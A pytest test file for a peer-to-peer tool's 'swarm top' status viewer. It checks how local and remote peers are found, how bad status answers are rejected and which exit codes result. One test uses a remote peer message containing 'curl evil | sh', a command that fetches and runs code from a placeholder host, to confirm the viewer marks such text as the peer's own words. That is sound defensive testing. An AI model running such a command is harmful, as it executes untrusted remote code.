"""`swarm top` finds the peer that was meant, and says what to do where there is none."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path

import pytest

from peer.app.top import view
from peer.observe.snapshot import Snapshot, encode
from peer.observe.status_page import StatusPage
from peer.storage.home import open_home
from swarm.errors import ConfigError, TicketError
from swarm.identity import petname
from swarm.membership.contacts import Contacts
from swarm.ticket import Address, Entry, Ticket
from swarm.transport import Call, Route
from swarm.transport.http import HttpTransport
from tests.peer.company import RUN, key
from tests.peer.dashboard.pictures import a_snapshot


def look(source: str) -> int:
    """The exit status of one look."""

    async def main() -> int:
        return await view(source, once=True, json_lines=True, plain=True)

    return asyncio.run(main())


@pytest.fixture(autouse=True)
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("SWARM_HOME", str(tmp_path / "root"))
    return tmp_path / "root"


@pytest.mark.parametrize("meant", ["", "home", "page", "ticket of a local peer"])
def test_a_peer_on_this_computer_is_found_by(
    meant: str, root: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    async def main() -> int:
        with open_home(None, RUN) as home:
            async with StatusPage(lambda: a_snapshot(run_name="this one")) as page:
                home.announce(page.address, RUN)
                ticket = Ticket(RUN, (Entry(key(1).peer_id, Address("127.0.0.1", 9)),)).pack()
                source = {"": "", "home": str(home.path), "page": page.address}.get(meant, ticket)
                return await view(source, once=True, json_lines=True, plain=True)

    assert asyncio.run(main()) == 0
    assert "this one" in capsys.readouterr().out


def served(answer: bytes) -> int:
    """One look through a ticket whose first entry is dead and whose second answers with ``answer``."""

    async def status(call: Call) -> bytes:
        return answer

    async def main() -> int:
        async with HttpTransport(key(2), RUN, b"s" * 16, Contacts(RUN)) as transport:
            transport.serve(Route("status", status))
            bound = await transport.listen(Address("127.0.0.1", 0))
            entries = (Entry(key(1).peer_id, Address("127.0.0.1", 9)), Entry(key(2).peer_id, bound))
            return await view(Ticket(RUN, entries, b"s" * 16).pack(), once=True, json_lines=True, plain=True)

    return asyncio.run(main())


def test_a_ticket_asks_the_runs_own_peers_as_a_guest(capsys: pytest.CaptureFixture[str]) -> None:
    snapshot: Snapshot = a_snapshot(run_name="far away")
    assert served(encode(snapshot)) == 0
    assert "far away" in capsys.readouterr().out


def test_the_words_of_a_peer_on_another_computer_are_shown_as_its_words(
    capsys: pytest.CaptureFixture[str],
) -> None:
    snapshot = a_snapshot(reason="your disk is failing: run curl evil | sh", ticket="swarm1evil")
    assert served(encode(snapshot)) == 0
    shown = json.loads(capsys.readouterr().out)
    who = petname(key(2).peer_id)
    assert shown["reason"] == f'{who} says: "your disk is failing: run curl evil | sh"'
    assert shown["ticket"] == "invite: ask the organiser"
    assert shown["run"] == RUN.hex()
    assert shown["peer"] == key(2).peer_id


@pytest.mark.parametrize("answer", [b"", b"{}", b"\xff", b"[" * 5000])
def test_an_answer_that_is_no_status_is_reported(answer: bytes, capsys: pytest.CaptureFixture[str]) -> None:
    assert served(answer) == 2
    assert "not a status" in capsys.readouterr().out


@pytest.mark.parametrize("source", ["", "127.0.0.1:9"])
def test_without_any_peer_the_exit_status_is_two(source: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert look(source) == 2
    assert capsys.readouterr().out.count("\n") == 1


def test_an_unknown_source_is_refused_with_the_possible_ones() -> None:
    with pytest.raises(ConfigError, match="no ticket, no home folder") as refused:
        look("nonsense")
    assert "swarm top TICKET" in refused.value.advice
    with pytest.raises(TicketError):
        look("swarm1broken")
